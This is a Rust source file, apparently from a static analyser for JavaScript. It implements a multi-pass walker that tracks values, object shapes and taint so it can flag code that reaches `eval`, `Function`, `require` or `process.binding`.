#[derive(Debug, Clone)]
struct Executor {
    reject: Option<SymbolId>,
    val: Vals,
}

struct Walker<'s> {
    src: &'s str,
    scoping: &'s Scoping,
    program: &'s Program<'s>,
    /// The program's declarations, collected at the first `require` whose
    /// specifier is not a constant ([`Specs`]).
    decls: std::cell::OnceCell<Decls<'s>>,
    syms: SymTables,
    /// Shapes of objects/arrays built from literals, by [`Val::Obj`] id.
    shapes: HashMap<u32, Shape>,
    /// Shape ids this pass has looked up (present or not).
    shapes_read: RefCell<Marks>,
    fn_stack: Vec<Frame>,
    taint: Vec<u8>,
    /// Span starts of `require` references that are callees, member objects or aliased.
    exempt_require: Marks,
    /// Span starts of `Function` references used only for identity or its prototype.
    exempt_function: Marks,
    /// Span starts of expressions whose taint is replaced by their parent's.
    exempt_taint: Marks,
    /// This pass changed a table entry after reading it: the reads before the
    /// change may differ in a further pass.
    stale: bool,
    emit: bool,
    in_const: bool,
    hits: Vec<Hit>,
    /// Taint of imported modules' exports, by specifier.
    imports: HashMap<String, u8>,
    /// Taint of what this module exports (this pass).
    export_taint: u8,
    caps: CapabilitySet,
    specs: Vec<Specifier>,
    effects: Vec<(Effect, Hit)>,
    /// Where this pass's hits, specifiers and effects start: the three lists
    /// keep every pass's, so that a unit's record stays valid (see [`Walker::unit`]).
    base: (usize, usize, usize),
    /// Version of each shape (the clock at its last change).
    shape_ver: HashMap<u32, u32>,
    /// The last walk of each unit, by [`Walker::unit`] key (from the second pass on).
    units: HashMap<UnitKey, UnitRecord>,
    /// The first pass's unit records, in walk order: indexed by key only if
    /// a second pass comes (most sources need one pass).
    first_units: Vec<(UnitKey, UnitRecord)>,
    /// Passes begun.
    passes: u32,
    /// Whether [`Walker::unit`] may repeat a record instead of walking.
    replay: bool,
    /// Whether [`Walker::object_val`] may take a hint.
    hints_on: bool,
    /// The source is TypeScript (signatures without bodies exist).
    ts: bool,
    /// Non-arrow functions around the current node (0: the module's own
    /// code, where `arguments` is the CommonJS wrapper's).
    fn_depth: u32,
    /// Values of the objects of the `with` statements around the current node
    /// (innermost last; `None`: not known).
    with_stack: Vec<Option<Val>>,
    /// The current code is strict (a module, a class, `"use strict"`).
    strict: bool,
    /// `this` of the current function is the global object when the
    /// function is called plainly (a sloppy-mode function that is not a method).
    this_global: bool,
    /// Span start of a function expression about to be visited as a method
    /// (an object member's value, a function assigned to a member).
    method_fn: u32,
    /// The symbol a function or arrow expression about to be visited is bound
    /// to (`const f = () => …`), by the expression's span start.
    pending_fn: Option<(u32, SymbolId)>,
    /// Values thrown in the `try` blocks around the current node (innermost last).
    thrown: Vec<Vals>,
    /// `thrown.len()` where the current function's body starts: the `try`
    /// blocks above it are not the function's own.
    try_floor: usize,
    /// The symbol the object literal or class being visited is bound to
    /// (`const o = {…}`, `class C {…}`, the root of `o.k = …`): the
    /// functions stored in it are its methods ([`Frame::owner`]).
    owner: Option<SymbolId>,
    /// What `this` is a method receiver of in the current function: the
    /// owner of the method, the constructor function's own symbol.
    this_owner: Option<SymbolId>,
    /// The start of the class bound to no name whose method the current
    /// function is (`new (class { … })()`, `module.exports = class { … }`):
    /// its `this` stores members in that class's own shapes.
    this_unbound: Option<u32>,
    /// The class bound to no name being visited (its start), if it is the
    /// innermost class.
    unbound_class: Option<u32>,
    /// Span start of the function of such a class's method (or
    /// constructor) about to be visited.
    unbound_fn: u32,
    /// Whether `this` is the class itself (a static method) rather than an instance.
    this_static: bool,
    /// What `super` is in a class's methods: `(start, end, shape)` of each
    /// method's function whose class `extends` a name, with the shape of
    /// the parent's instances (the parent's own in a static method).
    supers: Vec<(u32, u32, u32)>,
    /// Does the source name `setPrototypeOf` (literals may be given a
    /// prototype later)?
    sets_protos: bool,
    /// The constant names of the own members of object literals that have
    /// or may be given a prototype, by the literal's start.
    own_names: HashMap<u32, Vec<String>>,
    /// The object literals being walked (their starts), innermost last.
    open_literals: Vec<u32>,
    /// The object literal whose method a `super` is in, by the `super`'s
    /// start: its prototype (`__proto__: p`, `Object.setPrototypeOf(o, p)`).
    literal_supers: HashMap<u32, u32>,
    /// Span start of a static method's function about to be visited.
    static_fn: u32,
    /// Span start of a function expression about to be visited as the
    /// executor of the innermost [`Walker::executors`] entry.
    executor_fn: u32,
    /// The `new Promise(executor)` expressions around the current node
    /// (innermost last).
    executors: Vec<Executor>,
    /// What a `new Promise(executor)` (by span start) is rejected with. Kept
    /// over the passes (values only added, as in the tables): it is read only
    /// by the expressions built on the `new` expression, after it is visited,
    /// in the same unit as the executor's walk.
    rejected: HashMap<u32, Vals>,
    /// Values of the objects of static member expressions about to be
    /// visited, found while evaluating an expression built on them (see
    /// [`Walker::member_val`]); the last one first.
    hints: RefCell<Vec<Hint>>,
    /// Changes at every change of the context a value depends on besides the
    /// tables: `with` objects, strict code, sloppy `this`, function depth.
    ctx: u32,
    /// The value being computed met [`Walker::val_d`]'s depth bound.
    cut: Cell<bool>,
    /// How many worlds the file needs: the most values any table entry,
    /// shape key or rejection holds. A read of an entry holding several
    /// values takes one of them, by the pass's world ([`SymTables::world`]):
    /// world `k` takes the `k`-th (or the last), so that every value is read
    /// in some world, and the walk is repeated in each world (writes add, so
    /// what a world reads flows on as it would at run time).
    worlds: usize,
    /// The most alternatives a choice point of an expression had (see
    /// [`Walker::choose`]): the file needs as many worlds too.
    choices: Cell<usize>,
}

/// The value of a static member expression's object (`key`: the member
/// expression's address), computed at depth `depth` of [`Walker::val_d`]
/// without meeting its bound, while nothing a value depends on differed from
/// `stamp` (see [`Walker::hint_stamp`]).
#[derive(Debug, Clone, Copy)]
struct Hint {
    key: usize,
    stamp: [u32; 3],
    depth: u32,
    val: Option<Val>,
}

/// The taints of a call's arguments (most calls have few: no allocation).
#[derive(Default)]
struct ArgTaints {
    inline: [u8; 8],
    len: usize,
    more: Vec<u8>,
}

impl ArgTaints {
    fn push(&mut self, t: u8) {
        if self.len < self.inline.len() {
            self.inline[self.len] = t;
        } else {
            if self.more.is_empty() {
                self.more.extend_from_slice(&self.inline);
            }
            self.more.push(t);
        }
        self.len += 1;
    }
}

impl std::ops::Deref for ArgTaints {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        if self.len <= self.inline.len() {
            &self.inline[..self.len]
        } else {
            &self.more
        }
    }
}

/// The walker's tables, kept per thread between sources (allocating and
/// growing them for every file cost more than a tenth of a small file's scan).
#[derive(Default)]
struct WalkerBufs {
    syms: SymTables,
    shapes: HashMap<u32, Shape>,
    marks: [Marks; 4],
    shape_ver: HashMap<u32, u32>,
    units: HashMap<UnitKey, UnitRecord>,
    first_units: Vec<(UnitKey, UnitRecord)>,
    /// The taint accumulator stack.
    taint: Vec<u8>,
}

/// Sources up to this size leave their walker's buffers for the next one
/// (a larger one's are freed).
const KEEP_BUFS_UP_TO: usize = 1 << 20;

thread_local! {
    static WALKER_BUFS: Cell<Option<WalkerBufs>> = const { Cell::new(None) };
}

/// A unit: node kind (function, arrow, top-level statement) and span.
type UnitKey = (u8, u32, u32);

/// What a unit's last walk read and produced: ranges of the read log and of
/// the hit, specifier and effect lists, and its capabilities, export taint
/// and taint.
#[derive(Debug, Clone)]
struct UnitRecord {
    reads: (usize, usize),
    hits: (usize, usize),
    specs: (usize, usize),
    effects: (usize, usize),
    caps: CapabilitySet,
    export_taint: u8,
    taint: u8,
}

impl<'s> Walker<'s> {
    /// A walker over `src` whose tables live in `bufs` (emptied here).
    fn new(src: &'s str, scoping: &'s Scoping, program: &'s Program<'s>, bufs: WalkerBufs) -> Self {
        let WalkerBufs {
            mut syms,
            mut shapes,
            mut marks,
            mut shape_ver,
            mut units,
            mut first_units,
            mut taint,
        } = bufs;
        taint.clear();
        taint.push(0);
        syms.reset(scoping.symbols_len());
        shapes.clear();
        shape_ver.clear();
        units.clear();
        first_units.clear();
        for m in &mut marks {
            m.reset(src.len());
        }
        let [shapes_read, exempt_require, exempt_function, exempt_taint] = marks;
        Walker {
            src,
            scoping,
            program,
            decls: std::cell::OnceCell::new(),
            syms,
            shapes,
            shapes_read: RefCell::new(shapes_read),
            fn_stack: Vec::new(),
            taint,
            exempt_require,
            exempt_function,
            exempt_taint,
            stale: false,
            emit: false,
            in_const: false,
            hits: Vec::new(),
            imports: HashMap::default(),
            export_taint: 0,
            caps: CapabilitySet::EMPTY,
            specs: Vec::new(),
            effects: Vec::new(),
            base: (0, 0, 0),
            shape_ver,
            units,
            first_units,
            passes: 0,
            replay: true,
            hints_on: true,
            ts: false,
            fn_depth: 0,
            with_stack: Vec::new(),
            strict: false,
            this_global: false,
            method_fn: u32::MAX,
            pending_fn: None,
            thrown: Vec::new(),
            try_floor: 0,
            owner: None,
            this_owner: None,
            this_unbound: None,
            unbound_class: None,
            unbound_fn: u32::MAX,
            this_static: false,
            supers: Vec::new(),
            sets_protos: memchr::memmem::find(src.as_bytes(), b"setPrototypeOf").is_some(),
            own_names: HashMap::default(),
            open_literals: Vec::new(),
            literal_supers: HashMap::default(),
            static_fn: u32::MAX,
            executor_fn: u32::MAX,
            executors: Vec::new(),
            rejected: HashMap::default(),
            hints: RefCell::new(Vec::new()),
            ctx: 0,
            cut: Cell::new(false),
            worlds: 1,
            choices: Cell::new(1),
        }
    }

    /// The walker's table buffers, for the next source.
    fn into_bufs(self) -> WalkerBufs {
        WalkerBufs {
            syms: self.syms,
            shapes: self.shapes,
            marks: [
                self.shapes_read.into_inner(),
                self.exempt_require,
                self.exempt_function,
                self.exempt_taint,
            ],
            shape_ver: self.shape_ver,
            units: self.units,
            first_units: self.first_units,
            taint: self.taint,
        }
    }

    /// Start a pass in `world`: world 0 starts a round whose lists, capabilities
    /// and export taint the later worlds' passes add to.
    fn begin_pass(&mut self, emit: bool, world: usize) {
        self.passes += 1;
        self.syms.world = world;
        if self.passes == 2 {
            self.units.extend(self.first_units.drain(..));
        }
        self.stale = false;
        for c in &self.syms.read {
            c.set(0);
        }
        self.shapes_read.get_mut().clear();
        self.emit = emit;
        self.taint.clear();
        self.taint.push(0);
        self.fn_stack.clear();
        self.fn_depth = 0;
        self.with_stack.clear();
        self.this_global = false;
        self.ctx += 1;
        self.hints.get_mut().clear();
        self.method_fn = u32::MAX;
        self.pending_fn = None;
        self.thrown.clear();
        self.try_floor = 0;
        self.owner = None;
        self.this_owner = None;
        self.this_unbound = None;
        self.unbound_class = None;
        self.unbound_fn = u32::MAX;
        self.this_static = false;
        self.static_fn = u32::MAX;
        self.executor_fn = u32::MAX;
        self.executors.clear();
        self.exempt_require.clear();
        self.exempt_function.clear();
        self.exempt_taint.clear();
        if world == 0 {
            self.base = (self.hits.len(), self.specs.len(), self.effects.len());
            self.export_taint = 0;
            self.caps = CapabilitySet::EMPTY;
        }
    }

    /// Log the `const` string guard of `sym` (it saw no string); returns its log index.
    fn guard_open(&mut self, sym: SymbolId) -> usize {
        let ver = self.syms.ver[table_slot(sym.index(), R_STR)];
        let log = self.syms.log.get_mut();
        log.push(Read {
            id: sym.index() as u32,
            ver,
            kind: K_GUARD,
            len: 0,
        });
        log.len() - 1
    }

    fn guard_close(&mut self, at: usize) {
        let log = self.syms.log.get_mut();
        let n = log.len() - at - 1;
        log[at].len = n as u32;
        self.syms.seal();
    }

    /// The current version of what a logged read read.
    fn version_of(&self, r: &Read) -> u32 {
        match r.kind {
            K_SHAPE => self.shape_ver.get(&r.id).copied().unwrap_or(0),
            K_GUARD => self.syms.ver[table_slot(r.id as usize, R_STR)],
            bit => self.syms.ver[table_slot(r.id as usize, bit)],
        }
    }

    /// Would the reads `log[a..b]` see what they saw? (A guard that has seen
    /// a string since skips the reads it decides: a walk now would not make them.)
    fn reads_hold(&self, a: usize, b: usize) -> bool {
        let log = self.syms.log.borrow();
        let mut i = a;
        while i < b {
            let r = log[i];
            i += 1;
            if r.kind == K_GUARD {
                if self.version_of(&r) != r.ver {
                    i += r.len as usize;
                }
                continue;
            }
            if self.version_of(&r) != r.ver {
                return false;
            }
        }
        true
    }

    /// Walk a unit (a function body, a top-level statement) with `f`, or,
    /// when every table entry and shape its last walk read is unchanged since,
    /// repeat that walk's effects without walking. A walk depends only on the
    /// tables it reads (the marks it reads are set inside it, its other state
    /// is the same at the same node in every pass), and the tables only grow:
    /// every write it made is still there, so a walk now would write nothing,
    /// read the same entries (noted for [`Walker::stale`] as they would be) and
    /// produce the same hits, specifiers, effects, capabilities, export taint
    /// and taint, which are copied from its record. This is what lets a file
    /// whose bindings are used before they are defined be walked again in
    /// full only where a binding it reads changed.
    fn unit(&mut self, key: UnitKey, f: impl FnOnce(&mut Self)) {
        // A world reads other values than another: its own records.
        let key = (key.0 | ((self.syms.world as u8) << 2), key.1, key.2);
        if self.replay && self.passes > 1 {
            if let Some(rec) = self.units.get(&key) {
                if self.reads_hold(rec.reads.0, rec.reads.1) {
                    let rec = rec.clone();
                    self.replay(key, &rec);
                    return;
                }
            }
        }
        self.syms.seal();
        self.hints.get_mut().clear();
        let reads0 = self.syms.log.get_mut().len();
        let (h0, s0, e0) = (self.hits.len(), self.specs.len(), self.effects.len());
        let caps = std::mem::replace(&mut self.caps, CapabilitySet::EMPTY);
        let export_taint = std::mem::replace(&mut self.export_taint, 0);
        self.taint.push(0);
        f(self);
        let taint = self.taint.pop().unwrap_or(0);
        self.add_taint(taint);
        let own_caps = std::mem::replace(&mut self.caps, caps);
        self.caps = self.caps.union(own_caps);
        let own_export = std::mem::replace(&mut self.export_taint, export_taint);
        self.export_taint |= own_export;
        self.syms.seal();
        let rec = UnitRecord {
            reads: (reads0, self.syms.log.get_mut().len()),
            hits: (h0, self.hits.len()),
            specs: (s0, self.specs.len()),
            effects: (e0, self.effects.len()),
            caps: own_caps,
            export_taint: own_export,
            taint,
        };
        if self.passes <= 1 {
            self.first_units.push((key, rec));
        } else {
            self.units.insert(key, rec);
        }
    }

    /// Repeat a unit's recorded walk (see [`Walker::unit`]): its reads are
    /// noted and logged again, its products appended.
    fn replay(&mut self, key: UnitKey, rec: &UnitRecord) {
        #[cfg(test)]
        REPLAYS.with(|c| c.set(c.get() + 1));
        self.syms.seal();
        let reads0 = self.syms.log.get_mut().len();
        let mut i = rec.reads.0;
        while i < rec.reads.1 {
            let r = self.syms.log.get_mut()[i];
            i += 1;
            if r.kind == K_GUARD {
                if self.version_of(&r) != r.ver {
                    i += r.len as usize;
                    continue;
                }
            } else if r.kind == K_SHAPE {
                self.shapes_read.get_mut().insert(r.id);
            } else if let Some(c) = self.syms.read.get(r.id as usize) {
                c.set(c.get() | r.kind);
            }
            self.syms.log.get_mut().push(r);
        }
        self.syms.seal();
        let (h0, s0, e0) = (self.hits.len(), self.specs.len(), self.effects.len());
        self.hits.extend_from_within(rec.hits.0..rec.hits.1);
        self.specs.extend_from_within(rec.specs.0..rec.specs.1);
        self.effects.extend_from_within(rec.effects.0..rec.effects.1);
        self.caps = self.caps.union(rec.caps);
        self.export_taint |= rec.export_taint;
        self.add_taint(rec.taint);
        let new = UnitRecord {
            reads: (reads0, self.syms.log.get_mut().len()),
            hits: (h0, self.hits.len()),
            specs: (s0, self.specs.len()),
            effects: (e0, self.effects.len()),
            ..rec.clone()
        };
        self.units.insert(key, new);
    }

    /// The taint an imported module's exports carry.
    fn import_taint(&self, spec: &str) -> u8 {
        self.imports.get(spec).copied().unwrap_or(0)
    }

    /// Is `e` `module.exports`, `exports`, or a member chain rooted there?
    fn is_export_target(&self, e: &Expression<'_>) -> bool {
        let mut cur = e.get_inner_expression();
        for _ in 0..16 {
            match cur {
                Expression::Identifier(id) => {
                    return id.name.as_str() == "exports" && self.symbol_of(id).is_none();
                }
                Expression::StaticMemberExpression(m) => {
                    if m.property.name.as_str() == "exports" {
                        if let Expression::Identifier(id) = m.object.get_inner_expression() {
                            if id.name.as_str() == "module" && self.symbol_of(id).is_none() {
                                return true;
                            }
                        }
                    }
                    cur = m.object.get_inner_expression();
                }
                Expression::ComputedMemberExpression(m) => cur = m.object.get_inner_expression(),
                _ => return false,
            }
        }
        false
    }

    /// Return taint of local functions exported by name (`module.exports = f`,
    /// `module.exports = { f, g: h }`).
    fn exported_functions_taint(&self, e: &Expression<'_>) -> u8 {
        let of_ident = |x: &Expression<'_>| match x.get_inner_expression() {
            Expression::Identifier(id) => self.symbol_of(id).map_or(0, |s| self.syms.ret(s)),
            _ => 0,
        };
        match e.get_inner_expression() {
            Expression::ObjectExpression(o) => o
                .properties
                .iter()
                .filter_map(|p| match p {
                    ObjectPropertyKind::ObjectProperty(p) => Some(of_ident(&p.value)),
                    ObjectPropertyKind::SpreadProperty(_) => None,
                })
                .fold(0, |a, b| a | b),
            other => of_ident(other),
        }
    }

    /// Taint of a symbol and of what it returns (an exported function).
    fn symbol_export_taint(&self, s: SymbolId) -> u8 {
        self.syms.taint(s) | self.syms.ret(s)
    }

    fn hit(&mut self, rule: RuleId, span: Span) {
        if !self.emit {
            return;
        }
        self.hits.push(Hit {
            rule,
            start: span.start,
            end: span.end,
        });
        if let Some(c) = rule.capability() {
            self.caps.insert(c);
        }
    }

    fn effect(&mut self, e: Effect, rule: RuleId, span: Span) {
        if self.emit {
            self.effects.push((
                e,
                Hit {
                    rule,
                    start: span.start,
                    end: span.end,
                },
            ));
        }
    }

    fn src_text(&self, span: Span) -> String {
        self.src
            .get(span.start as usize..span.end as usize)
            .unwrap_or("")
            .to_string()
    }

    fn add_taint(&mut self, t: u8) {
        if let Some(top) = self.taint.last_mut() {
            *top |= t;
        }
    }

    /// Run `f` with a fresh taint accumulator; the result is also added to the parent's.
    fn taint_of(&mut self, f: impl FnOnce(&mut Self)) -> u8 {
        self.taint.push(0);
        f(self);
        let t = self.taint.pop().unwrap_or(0);
        self.add_taint(t);
        t
    }

    /// Run `f` with a fresh accumulator that is dropped (function bodies).
    fn isolated(&mut self, f: impl FnOnce(&mut Self)) {
        self.taint.push(0);
        f(self);
        self.taint.pop();
    }

    /// The symbol a reference resolves to at run time: `None` for a global,
    /// and for a TypeScript ambient declaration (`declare var eval`, `declare
    /// function require`, `declare class Function`) or a function declared
    /// only by signatures without a body, which are erased at compile time and
    /// leave the global in place.
    fn symbol_of(&self, id: &IdentifierReference<'_>) -> Option<SymbolId> {
        let r = id.reference_id.get()?;
        let s = self.scoping.get_reference(r).symbol_id()?;
        if self.ts && self.erased(s, id.name.as_str()) {
            return None;
        }
        Some(s)
    }

    /// Is `s` (named `name`) erased by the TypeScript compiler?
    fn erased_slow(&self, s: SymbolId, name: &str, flags: SymbolFlags) -> bool {
        if flags.contains(SymbolFlags::Ambient) {
            return true;
        }
        // Overload signatures without an implementation: only a function
        // declaration with a body gives the symbol a function value.
        flags.contains(SymbolFlags::Function)
            && !flags.intersects(SymbolFlags::Variable | SymbolFlags::Class | SymbolFlags::Import)
            && global(name).is_some()
            && !self.syms.val_has(s, Val::FnValue)
    }

    #[inline]
    fn erased(&self, s: SymbolId, name: &str) -> bool {
        let flags = self.scoping.symbol_flags(s);
        flags.intersects(SymbolFlags::Ambient | SymbolFlags::Function) && self.erased_slow(s, name, flags)
    }

    /// A table entry at `sym` changed: stale if this pass read it before.
    fn wrote(&mut self, sym: SymbolId, bit: u8) {
        if self.syms.was_read(sym, bit) {
            self.stale = true;
        }
    }

    /// The symbol may hold `v` (besides what it held).
    fn set_val(&mut self, sym: SymbolId, v: Val) {
        if let Some(e) = self.syms.val.get_mut(sym.index()) {
            if e.add(v) {
                self.worlds = self.worlds.max(e.len());
                self.syms.changed(sym, R_VAL);
                self.wrote(sym, R_VAL);
            }
        }
    }

    fn set_taint(&mut self, sym: SymbolId, t: u8) {
        if t == 0 {
            return;
        }
        if let Some(e) = self.syms.taint.get_mut(sym.index()) {
            if *e | t != *e {
                *e |= t;
                self.syms.changed(sym, R_TAINT);
                self.wrote(sym, R_TAINT);
            }
        }
    }

    /// The function bound to `f` may return `v`.
    fn set_retv(&mut self, f: SymbolId, v: Val) {
        if let Some(e) = self.syms.retv.get_mut(f.index()) {
            if e.add(v) {
                self.worlds = self.worlds.max(e.len());
                self.syms.changed(f, R_RETV);
                self.wrote(f, R_RETV);
            }
        }
    }

    /// The function bound to `f` may throw `v` to its caller.
    fn set_thrv(&mut self, f: SymbolId, v: Val) {
        if let Some(e) = self.syms.thrv.get_mut(f.index()) {
            if e.add(v) {
                self.worlds = self.worlds.max(e.len());
                self.syms.changed(f, R_THRV);
                self.wrote(f, R_THRV);
            }
        }
    }

    /// Does a value thrown here reach anything ([`Walker::throw_val`]): a
    /// `try` block around it, or callers of the current function (by its
    /// name, as a method, as the rejection of its promise)?
    fn throw_reaches(&self) -> bool {
        !self.thrown.is_empty()
            || self
                .fn_stack
                .last()
                .is_some_and(|f| f.sym.is_some() || f.owner.is_some() || f.executor.is_some())
    }

    /// Some method of the object or class bound to `o` may throw `v` to its
    /// caller.
    fn set_mthrv(&mut self, o: SymbolId, v: Val) {
        if let Some(e) = self.syms.mthrv.get_mut(o.index()) {
            if e.add(v) {
                self.worlds = self.worlds.max(e.len());
                self.syms.changed(o, R_MTHRV);
                self.wrote(o, R_MTHRV);
            }
        }
    }

    /// `v` is thrown here (by a `throw`, or by a call to a function that
    /// throws it): the innermost `try` block around this point catches it
    /// (its catch parameter holds it), and when no `try` block of the current
    /// function does, it also escapes to the function's callers (by its
    /// name, as a method of its object or class, as the rejection of the
    /// promise it is the executor of).
    fn throw_val(&mut self, v: Val) {
        if let Some(top) = self.thrown.last_mut() {
            top.add(v);
        }
        if self.thrown.len() <= self.try_floor {
            let Some(fr) = self.fn_stack.last().copied() else {
                return;
            };
            if let Some(f) = fr.sym {
                self.set_thrv(f, v);
            }
            if let Some(o) = fr.owner {
                self.set_mthrv(o, v);
            }
            if let Some(e) = fr.executor.and_then(|i| self.executors.get_mut(i)) {
                e.val.add(v);
            }
        }
    }

    /// A call of `f(args)` inside a promise executor: when `f` is the
    /// executor's reject parameter, its promise is rejected with the first argument.
    fn reject_call(&mut self, f: SymbolId, args: &[Argument<'_>]) {
        let Some(i) = self.executors.iter().rposition(|e| e.reject == Some(f)) else {
            return;
        };
        let v = args
            .first()
            .and_then(|a| a.as_expression())
            .and_then(|e| self.val(e))
            .filter(|v| self.trackable(*v));
        if let (Some(v), Some(e)) = (v, self.executors.get_mut(i)) {
            e.val.add(v);
        }
    }

    /// The object or class a method called on `recv` belongs to, by the
    /// symbol it is bound to: the root of a member chain (`o` of `o.a.m()`,
    /// `C` of `C.m()`), the class of a new instance (`new C().m()`), the
    /// owner of the current method (`this.m()`).
    fn receiver_owner(&self, recv: &Expression<'_>) -> Option<SymbolId> {
        let mut cur = recv.get_inner_expression();
        for _ in 0..MAX_SHAPE_DEPTH {
            match cur {
                Expression::Identifier(id) => return self.symbol_of(id),
                Expression::ThisExpression(_) => return self.this_owner,
                Expression::NewExpression(n) => cur = n.callee.get_inner_expression(),
                Expression::StaticMemberExpression(m) => cur = m.object.get_inner_expression(),
                Expression::ComputedMemberExpression(m) => cur = m.object.get_inner_expression(),
                _ => return None,
            }
        }
        None
    }

    /// What a call of the method `callee` (a member expression) may throw:
    /// what any method of its object or class lets escape.
    fn method_thrown(&self, callee: &Expression<'_>) -> Option<Val> {
        let recv = match callee {
            Expression::StaticMemberExpression(m) => &m.object,
            Expression::ComputedMemberExpression(m) => &m.object,
            _ => return None,
        };
        self.receiver_owner(recv).and_then(|o| self.syms.mthrv(o))
    }

    /// Merge return taint into the function bound to `f`.
    fn add_ret(&mut self, f: SymbolId, t: u8) {
        if let Some(e) = self.syms.ret.get_mut(f.index()) {
            if *e | t != *e {
                *e |= t;
                self.syms.changed(f, R_RET);
                self.wrote(f, R_RET);
            }
        }
    }

    /// Bind parameters to the function bound to `sym` (the first binding wins).
    fn set_params(&mut self, sym: SymbolId, ps: Vec<Pat>) {
        if let Some(e @ None) = self.syms.params.get_mut(sym.index()) {
            *e = Some(ps.into());
            self.syms.changed(sym, R_PARAMS);
            self.wrote(sym, R_PARAMS);
        }
    }

    /// The shape of an object built from literals (a recorded read).
    fn shape(&self, id: u32) -> Option<&Shape> {
        self.shapes_read.borrow_mut().insert(id);
        let ver = self.shape_ver.get(&id).copied().unwrap_or(0);
        self.syms.log_read(id, K_SHAPE, ver);
        self.shapes.get(&id)
    }

    /// The value of `obj.name`: an object built from literals answers from its
    /// shape, anything else by the language's rules ([`member`]).
    fn mem(&self, obj: Option<Val>, name: &str) -> Option<Val> {
        self.mem_d(obj, name, 0)
    }

    fn mem_d(&self, obj: Option<Val>, name: &str, d: u32) -> Option<Val> {
        if let (Some(Val::Obj(id)), true) = (obj, d < MAX_SHAPE_DEPTH) {
            if let Some(sh) = self.shape(id) {
                // The value of this world (see [`Vals::pick`]): the first
                // one stored in world 0, the last one of a key stored fewer times.
                let world = self.syms.world;
                let mut at_key = sh.keys.iter().filter(|(k, _)| k == name).map(|(_, v)| *v);
                if let Some(first) = at_key.next() {
                    if world == 0 {
                        return Some(first);
                    }
                    return Some(at_key.take(world).last().unwrap_or(first));
                }
                for c in &sh.copies {
                    if let Some(v) = self.mem_d(Some(*c), name, d + 1).filter(|v| self.trackable(*v)) {
                        return Some(v);
                    }
                }
                // Not its own: its prototype's (`__proto__: p`,
                // `Object.setPrototypeOf(o, p)`).
                if let Some(p) = sh.proto().filter(|_| !self.hides(id, name)) {
                    if let Some(v) = self.mem_d(Some(p), name, d + 1).filter(|v| self.trackable(*v)) {
                        return Some(v);
                    }
                }
                if let Some(v) = sh.unknown.get(self.syms.world.min(sh.unknown.len().saturating_sub(1))) {
                    return Some(*v);
                }
            }
        }
        member(obj, name)
    }

    /// The shape `this` stores members in here: the object literal a method
    /// belongs to, an instance of the class or constructor function whose
    /// method (or body) this is, the module's own `this` at the top level.
    fn this_shape(&self) -> Option<u32> {
        let Some(o) = self.this_owner else {
            if let Some(c) = self.this_unbound {
                // (A class starts at its keyword: no literal or name
                // starts there, nor one character on.)
                return Some(if self.this_static { c + 1 } else { c });
            }
            // (The end of the source: no literal or name starts there.)
            let end = u32::try_from(self.src.len()).ok();
            return end.filter(|_| self.fn_depth == 0 && self.owner.is_none());
        };
        match self.syms.val(o) {
            Some(Val::Obj(id)) => Some(id),
            Some(Val::FnValue) => Some(self.instance_or_class(o)),
            _ if self
                .scoping
                .symbol_flags(o)
                .intersects(SymbolFlags::Class | SymbolFlags::Function) =>
            {
                Some(self.instance_or_class(o))
            }
            _ => None,
        }
    }

    /// The shape of `this` in a method of the class (or constructor
    /// function) bound to `o`: the class's own in a static method, else its
    /// instances'.
    fn instance_or_class(&self, o: SymbolId) -> u32 {
        let (instance, class) = class_shape_ids(self.scoping, o);
        if self.this_static {
            class
        } else {
            instance
        }
    }

    /// The shape members stored on `obj` go to when `obj` is `this` (see
    /// [`Walker::this_shape`]), a function or class bound to a name (its
    /// own members: `K.r = require`) or the module's exports object
    /// (`exports`, `module.exports`: the top level's `this`).
    fn own_shape(&self, obj: &Expression<'_>) -> Option<u32> {
        let unbound =
            |id: &IdentifierReference<'_>, name: &str| id.name.as_str() == name && self.symbol_of(id).is_none();
        let exports = match obj.get_inner_expression() {
            Expression::ThisExpression(_) => return self.this_shape(),
            Expression::Identifier(id) => match self.symbol_of(id) {
                // A function or class bound to a name: its own members
                // (what its static methods see as `this`).
                Some(s) => return self.is_class_like(s).then(|| class_shape_ids(self.scoping, s).1),
                None => id.name.as_str() == "exports",
            },
            // `K.prototype`: what its instances inherit.
            Expression::StaticMemberExpression(m) if m.property.name.as_str() == "prototype" => {
                let Expression::Identifier(id) = m.object.get_inner_expression() else {
                    return None;
                };
                let s = self.symbol_of(id).filter(|s| self.is_class_like(*s))?;
                return Some(class_shape_ids(self.scoping, s).0);
            }
            Expression::StaticMemberExpression(m) => {
                m.property.name.as_str() == "exports"
                    && matches!(m.object.get_inner_expression(), Expression::Identifier(id) if unbound(id, "module"))
            }
            _ => false,
        };
        exports.then(|| u32::try_from(self.src.len()).ok()).flatten()
    }

    /// `this.name` (or `exports.name`) when the code stored a tracked value
    /// there (`this.f = require` in a constructor or another method).
    fn this_member(&self, obj: &Expression<'_>, name: &str) -> Option<Val> {
        let id = self.own_shape(obj)?;
        let held = self.shape(id)?.keys.iter().any(|(k, _)| k == name);
        held.then(|| self.mem(Some(Val::Obj(id)), name)).flatten()
    }

    /// Does `name` of the object `id` resolve (as [`Walker::mem`] resolves it)
    /// to a member of a non-literal value copied into it (object spread,
    /// `Object.assign`), i.e. a member never reported where it was stored?
    fn via_copy(&self, id: u32, name: &str, d: u32) -> bool {
        let Some(sh) = self.shape(id).filter(|_| d < MAX_SHAPE_DEPTH) else {
            return false;
        };
        if sh.keys.iter().any(|(k, _)| k == name) {
            return false;
        }
        for c in &sh.copies {
            if self.mem_d(Some(*c), name, d + 1).is_some_and(|v| self.trackable(v)) {
                return match c {
                    Val::Obj(inner) => self.via_copy(*inner, name, d + 1),
                    _ => true,
                };
            }
        }
        false
    }

    /// Is `v` worth keeping as a member of a literal's shape?
    fn trackable(&self, v: Val) -> bool {
        match v {
            Val::Obj(id) => self.shape(id).is_some(),
            v => v.is_trackable_member(),
        }
    }

    /// Can a non-constant computed read of `v` reach `eval`, `Function`,
    /// `process.binding`, the module loader or the global object? (The global
    /// object, `process`, `module`, `require`, and objects built from literals
    /// that hold one of those, however deeply nested.)
    fn powerful(&self, v: Option<Val>) -> bool {
        self.powerful_d(v, 0)
    }

    fn powerful_d(&self, v: Option<Val>, d: u32) -> bool {
        match v {
            Some(Val::Obj(id)) if d < MAX_SHAPE_DEPTH => self.shape(id).is_some_and(|sh| {
                sh.keys
                    .iter()
                    .map(|(_, v)| *v)
                    .chain(sh.unknown.iter().copied())
                    .chain(sh.copies.iter().copied())
                    .any(|m| m.is_powerful_member() || self.powerful_d(Some(m), d + 1))
            }),
            Some(v) => v.is_powerful_object(),
            None => false,
        }
    }

